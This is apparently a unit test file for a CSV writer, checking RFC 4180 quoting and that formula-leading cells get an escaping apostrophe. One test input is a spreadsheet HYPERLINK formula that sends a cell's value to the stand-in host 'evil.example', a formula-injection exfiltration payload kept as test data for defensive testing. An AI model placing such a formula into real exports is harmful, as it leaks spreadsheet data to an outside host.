import { writeCsv } from './write-csv';

describe('writeCsv', () => {
  it('writes a header and RFC 4180 rows', () => {
    expect(
      writeCsv(
        ['a', 'b', 'c'],
        [
          ['x', 'with, comma', 'say "hi"'],
          ['1', null, undefined],
        ],
      ),
    ).toBe('a,b,c\nx,"with, comma","say ""hi"""\n1,,\n');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+1+1', "'+1+1"],
    ['-12.50', "'-12.50"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['＝1+1', "'＝1+1"],
  ])('writes %j with a leading quote, so no spreadsheet runs it', (cell, written) => {
    expect(writeCsv(['cell'], [[cell]])).toBe(`cell\n${written}\n`);
  });

  it('escapes negative numbers too, and leaves other cells as they are', () => {
    expect(writeCsv(['n', 'm', 's'], [[-3, 4, 'a=b']])).toBe("n,m,s\n'-3,4,a=b\n");
  });
});
